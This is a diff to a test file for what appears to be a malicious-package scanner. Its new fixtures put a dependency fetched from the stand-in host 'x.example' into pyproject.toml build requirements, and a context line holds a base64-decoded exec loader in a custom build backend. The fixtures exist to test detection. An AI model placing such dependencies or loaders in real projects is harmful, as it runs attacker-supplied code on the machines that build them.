@@ -319,6 +319,18 @@ CASES = [
      "code.build-backend", M, "a table name spelled with a \\u escape is still read"),
     ({"demo-1.0/pyproject.toml": "[project]\nname = 'demo'\n"}, "code.build-backend", None,
      "a pyproject.toml without a build-system table"),
+    ({"demo-1.0/pyproject.toml": "[build-system]\nrequires = [\n['evil @ https://x.example/e.zip'][0],\n]\n"
+                                 "build-backend = 'setuptools.build_meta'\n[tool.x]\na = 1\n"},
+     "code.build-backend", None, "a line starting with [ inside a value: not TOML, skipped"),
+    ({"demo-1.0/pyproject.toml": "[build-system]\nrequires = [\n  'evil @ https://x.example/e.zip',\n]\n"
+                                 "build-backend = 'setuptools.build_meta'\n\n[tool.ruff]\nline-length = 99\n"},
+     "code.build-backend", M, "the build-system table read on its own, before the tool tables"),
+    ({"demo-1.0/pyproject.toml": "build-system = {requires = ['evil @ https://x.example/e.zip'], "
+                                 "build-backend = 'setuptools.build_meta'}\n"},
+     "code.build-backend", M, "an inline build-system table"),
+    ({"demo-1.0/pyproject.toml": "[build-system]\nrequires = [\n\"\"\"\n[tool.x]\n\"\"\",\n"
+                                 "'evil @ https://x.example/e.zip']\nbuild-backend = 'setuptools.build_meta'\n"},
+     "code.build-backend", M, "a table header inside a string: the whole file is read"),
     ({"demo-1.0/pyproject.toml": "[build-system]\nrequires = []\nbuild-backend = 'backend'\n"
                                  "backend-path = ['_build']\n",
       "demo-1.0/_build/backend.py": f"import base64\nexec(base64.b64decode('{PAYLOAD}'))\n"},
